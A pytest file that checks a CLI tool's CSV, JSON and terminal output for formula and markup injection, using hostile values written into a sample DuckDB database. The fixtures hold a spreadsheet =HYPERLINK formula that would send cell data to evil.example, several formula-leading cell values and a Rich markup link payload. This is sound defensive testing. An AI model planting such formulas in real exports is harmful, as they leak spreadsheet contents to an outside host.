"""Issue 11, item 9: what servers wrote never becomes a formula, markup or invalid JSON.

Hostile values are written into a real sample warehouse (tests/test_cli_query.py's
make_sample_db) and read back through the real query commands.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import pytest

from extractors.money import find_money
from tests.test_cli_query import EVENTS, _id, invoke, make_sample_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKUP = "[/bold][link=http://evil.example]click[/link] [red"


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    db = make_sample_db(tmp_path / "hostile.duckdb")
    con = duckdb.connect(str(db))
    try:
        first = _id(EVENTS[0][0], EVENTS[0][1])
        con.execute("UPDATE events SET summary = ?, amount = 'inf'::DOUBLE, currency = 'USD' "
                    "WHERE event_id = ?", [FORMULA, first])
        con.execute("UPDATE articles SET site = '@SUM(1+1)', title = '+1-555', url = '-2+3' "
                    "WHERE article_id = 'art01'")
        con.execute("UPDATE feeds SET name = ? WHERE url = 'https://broken.example/rss'", [MARKUP])
        con.execute("UPDATE feed_state SET last_error = ? WHERE feed_url = 'https://broken.example/rss'",
                    [MARKUP])
    finally:
        con.close()
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_events_csv_neutralises_formulas(hostile_db: Path) -> None:
    out = invoke("events", "--db", str(hostile_db), "--format", "csv")
    assert out.exit_code == 0
    cells = _cells(out.stdout)
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert not any(c.startswith("-") and not c[1:2].isdigit() for c in cells)


def test_sources_csv_neutralises_formulas(hostile_db: Path) -> None:
    first = _id(EVENTS[0][0], EVENTS[0][1])
    out = invoke("sources", first, "--db", str(hostile_db), "--format", "csv")
    assert out.exit_code == 0
    cells = _cells(out.stdout)
    assert "'@SUM(1+1)" in cells and "'+1-555" in cells and "'-2+3" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_json_output_is_always_valid_json(hostile_db: Path) -> None:
    out = invoke("events", "--db", str(hostile_db), "--format", "json")
    assert out.exit_code == 0
    assert "Infinity" not in out.stdout
    records = json.loads(out.stdout, parse_constant=lambda c: pytest.fail(f"{c} is not JSON"))
    assert any(r["summary"] == FORMULA and r["amount"] is None for r in records)


def test_server_text_is_printed_not_parsed_as_markup(hostile_db: Path) -> None:
    """An unbalanced `[/bold]` in a feed error made Rich raise MarkupError."""
    out = invoke("feeds", "--db", str(hostile_db))
    assert out.exit_code == 0
    assert "[/bold][link=http://evil.example]click[/link]" in out.stdout.replace("\n", "")


def test_failed_feed_reason_with_markup_prints_in_the_run_summary(capsys) -> None:
    from flows.cli import print_summary

    summary = {"run_id": "r", "feeds_polled": 1, "feeds_failed": [("http://x.example/", MARKUP)],
               "new_articles": 0, "new_events": [], "alerts_sent": 0}
    print_summary(summary, {"http://x.example/": MARKUP})
    assert MARKUP in capsys.readouterr().out


def test_an_amount_of_400_digits_is_rejected() -> None:
    text = "The fund pledged $" + "9" * 400 + " for rare earth plants, and $5 million more."
    assert [(m.amount, m.currency) for m in find_money(text)] == [(5e6, "USD")]
    assert find_money("a $2,000 trillion deal") == []  # above any real sum
